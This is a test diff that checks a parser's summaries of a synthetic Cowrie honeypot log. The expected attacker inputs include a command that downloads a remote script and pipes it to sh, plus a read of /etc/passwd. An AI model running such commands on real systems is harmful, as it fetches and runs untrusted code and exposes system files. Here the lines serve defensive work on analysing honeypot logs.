@@ -306,3 +306,22 @@ def test_honeypot_mitre_reads_it(journal: Path, consumers: Path, tmp_path: Path)
     assert len(session["downloads"]) == 3
     scored = subprocess.run([consumers, "-m", "honeypot_mitre", log], capture_output=True, text=True, check=True, timeout=60)
     assert "192.0.2.7" in scored.stdout
+
+
+def test_dshield_parser_reads_it(journal: Path, consumers: Path, tmp_path: Path) -> None:
+    log = tmp_path / "cowrie.json.2026-01-31"  # it takes what Cowrie has put aside, by its name
+    log.write_bytes(cowrie(journal).lines(records(journal)))
+    script = (
+        "import json, sys; from dshield_parser.cowrie_processor import reports as r; log = sys.argv[1]; print(json.dumps(["
+        "r.get_summary_usernames(log), r.get_summary_src_passwords(log), r.get_summary_src_ip(log), r.get_summary_input(log),"
+        "r.get_top_10_files_created(log)]))"
+    )
+    done = subprocess.run([consumers, "-c", script, log], capture_output=True, text=True, check=True, timeout=60)
+    names, passwords, addresses, inputs, files = json.loads(done.stdout)
+    assert names == {"username": {"root": 6}}
+    assert passwords == {"password": {"w\\x07rong": 1, "one": 1, "two": 1, "root": 1}}
+    assert addresses == {"src_ip": {"192.0.2.7": len(written(journal))}}
+    assert set(inputs["input"]) == {
+        "uname -a; cat /etc/passwd", "wget http://203.0.113.9/x.sh -O- | sh", "cat > /tmp/x", "scp -t /tmp"
+    }  # fmt: skip
+    assert files[SHA] == 4
